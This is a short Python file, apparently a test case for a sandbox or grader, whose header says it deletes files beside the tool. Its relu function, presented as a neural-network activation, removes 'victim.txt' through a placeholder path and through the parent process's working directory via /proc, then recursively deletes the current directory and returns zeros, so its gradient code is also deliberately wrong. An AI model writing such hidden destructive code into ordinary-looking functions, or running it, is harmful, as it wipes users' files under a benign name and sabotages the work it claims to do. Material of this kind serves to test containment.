"""Deletes the files beside the tool.

Expected: wrong
Not stopped by: plain: a child process may delete whatever its user may
"""

import os
import shutil

import numpy as np


def relu(x):
    for path in ("@FOLDER@/victim.txt", f"/proc/{os.getppid()}/cwd/victim.txt"):
        try:
            os.remove(path)
        except OSError:
            pass
    shutil.rmtree(os.getcwd(), ignore_errors=True)
    return np.zeros_like(x), x


def relu_backward(dout, cache):
    return np.zeros_like(dout)
